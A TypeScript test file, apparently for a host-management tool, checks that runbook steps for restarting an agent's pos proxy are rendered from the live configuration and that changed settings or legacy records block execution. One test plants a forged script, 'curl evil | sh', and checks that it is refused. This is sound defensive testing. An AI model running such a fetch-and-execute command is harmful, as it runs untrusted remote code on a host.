/**
 * What a subtask runs is rendered from the live configuration (src/tasks/step-plans.ts):
 * the record names the runbook step and digests what it rendered when planned;
 * a change of the step or of the host's settings is "configuration changed";
 * a record of an older version runs only a script the configuration renders.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type Config, parseConfig } from '../../src/config.js';
import { RESTART } from '../../src/core/runbooks/builtin.js';
import { planTask } from '../../src/core/task.js';
import type { TaskRecord } from '../../src/core/task-record.js';
import { planReopened, stepsOfPlan, stepToRun } from '../../src/tasks/step-plans.js';

const HOST = { id: 101, name: 'h1', address: '127.0.0.1', agentHome: '/home/admin/ocp_agent' };

function configWith(
  over: { host?: Partial<typeof HOST> & { port?: number; stateDir?: string }; edit?: (c: Config) => Config } = {},
): Config {
  const config = parseConfig({ hosts: [{ ...HOST, ...over.host }] }, {}, 'test.yml', '/tmp');
  return over.edit ? over.edit(config) : config;
}

/** The Restart runbook with step `index` changed. */
function editStep(index: number, change: Record<string, unknown>) {
  return (c: Config): Config => ({
    ...c,
    runbooks: c.runbooks.map((r) =>
      r.name === RESTART ? { ...r, steps: r.steps.map((s, i) => (i === index ? { ...s, ...change } : s)) } : r,
    ),
  });
}

function record(config: Config): TaskRecord {
  const runbook = config.runbooks.find((r) => r.name === RESTART)!;
  const plan = planTask({
    runbook,
    hosts: [HOST],
    ids: [1, 2, 3, 4, 5, 6],
    creator: 'c',
    executor: 'e',
    now: new Date(),
  });
  return {
    task: plan.task,
    ...stepsOfPlan(config, RESTART, plan.steps),
    requestId: 'r',
    traceId: '0123456789abcdef',
    eventSeq: 0,
    publishedSeq: 0,
    outbox: [],
  };
}

describe('step plans', () => {
  test('the record names the step and digests it; it holds no script', () => {
    const r = record(configWith());
    assert.equal(r.plans?.length, 5);
    assert.deepEqual(
      r.plans?.map((p) => [p.runbook, p.step]),
      [0, 1, 2, 3, 4].map((i) => [RESTART, i]),
    );
    assert.ok(r.plans?.every((p) => /^[0-9a-f]{16}$/.test(p.digest)));
    assert.doesNotMatch(JSON.stringify(r), /ocp_agentctl/, 'no script is stored');
  });

  test('runs the step as the configuration renders it now', () => {
    const config = configWith();
    const run = stepToRun(config, record(config), 3);
    assert.ok(run?.ok);
    assert.equal(run.name, 'Restart pos proxy');
    assert.equal(run.script, "'/home/admin/ocp_agent/bin/ocp_agentctl' restart pos_proxy");
    assert.equal(run.timeout, 60);
  });

  const changes: Array<{ name: string; config: Config; reason: RegExp }> = [
    {
      name: 'its command',
      config: configWith({ edit: editStep(1, { command: '{agentctl} restart pos_proxy --now' }) }),
      reason: /step "Restart pos proxy" of runbook "Restart OCP agent"/,
    },
    { name: 'its timeout', config: configWith({ edit: editStep(1, { timeout: 61 }) }), reason: /Restart pos proxy/ },
    {
      name: 'the runbook losing it',
      config: configWith({ edit: (c) => ({ ...c, runbooks: c.runbooks.filter((r) => r.name !== RESTART) }) }),
      reason: /runbook "Restart OCP agent" is no longer configured/,
    },
    { name: "the host's address", config: configWith({ host: { address: '127.0.0.2' } }), reason: /host 101/ },
    { name: "the host's port", config: configWith({ host: { port: 2222 } }), reason: /host 101/ },
    { name: "the host's agentHome", config: configWith({ host: { agentHome: '/opt/agent' } }), reason: /./ },
    { name: "the host's stateDir", config: configWith({ host: { stateDir: '/var/tmp/ocp' } }), reason: /host 101/ },
    {
      name: 'the host removed',
      config: configWith({ edit: (c) => ({ ...c, hosts: [] }) }),
      reason: /no longer in the inventory/,
    },
  ];
  for (const c of changes) {
    test(`a change of ${c.name} since planned: "configuration changed", nothing to run`, () => {
      const run = stepToRun(c.config, record(configWith()), 3);
      assert.ok(run && !run.ok);
      assert.match(run.reason, /^configuration changed: /);
      assert.match(run.reason, c.reason);
    });
  }

  test('a change of another step leaves this one runnable', () => {
    const run = stepToRun(configWith({ edit: editStep(4, { timeout: 5 }) }), record(configWith()), 3);
    assert.ok(run?.ok);
  });

  test("an older version's record runs only a script the configuration renders, never its own", () => {
    const config = configWith();
    const { plans: _p, hostDigests: _h, ...rest } = record(config);
    const rendered = (id: number) => (stepToRun(config, record(config), id) as { script: string }).script;
    const legacy = (scripts: string[]): TaskRecord => ({
      ...rest,
      steps: Object.fromEntries([2, 3, 4, 5, 6].map((id, i) => [String(id), { hostId: 101, script: i }])),
      scripts,
    });
    const honest = stepToRun(config, legacy([2, 3, 4, 5, 6].map(rendered)), 3);
    assert.ok(honest?.ok);
    assert.equal(honest.script, rendered(3));
    const forged = stepToRun(config, legacy([2, 3, 4, 5, 6].map(() => 'curl evil | sh')), 3);
    assert.ok(forged && !forged.ok);
    assert.match(forged.reason, /^configuration changed: .*older version/);
  });

  test('a retried host is planned again with the configuration of that moment, its timeout shown', () => {
    const before = record(configWith());
    const failed = {
      ...before,
      task: {
        ...before.task,
        status: 'FAILED' as const,
        subtasks: before.task.subtasks.map((s, i) => ({
          ...s,
          status: i === 0 ? ('SUCCESSFUL' as const) : i === 1 ? ('FAILED' as const) : ('PENDING' as const),
        })),
      },
    };
    const retried = {
      ...failed,
      task: {
        ...failed.task,
        status: 'RUNNING' as const,
        subtasks: failed.task.subtasks.map((s) => (s.status === 'FAILED' ? { ...s, status: 'READY' as const } : s)),
      },
    };
    const now = configWith({ edit: editStep(1, { timeout: 61 }) });
    assert.ok(!stepToRun(now, retried, 3)?.ok, 'as it was planned, the step is out of date');
    const planned = planReopened(now, failed, retried);
    const run = stepToRun(now, { ...retried, ...planned }, 3);
    assert.ok(run?.ok);
    assert.equal(planned.task.subtasks[1]?.timeout, 61);
  });

  test('a step its runbook no longer has cannot run again: 409 / 20003', () => {
    const before = record(configWith());
    const failed = {
      ...before,
      task: {
        ...before.task,
        status: 'FAILED' as const,
        subtasks: before.task.subtasks.map((s) => ({ ...s, status: 'FAILED' as const })),
      },
    };
    const retried = {
      ...failed,
      task: {
        ...failed.task,
        status: 'RUNNING' as const,
        subtasks: failed.task.subtasks.map((s) => ({ ...s, status: 'READY' as const })),
      },
    };
    const renamed = configWith({ edit: editStep(1, { name: 'Restart the proxy' }) });
    assert.throws(
      () => planReopened(renamed, failed, retried),
      (err: { code?: number; message: string }) => err.code === 20003 && /Restart pos proxy/.test(err.message),
    );
  });
});
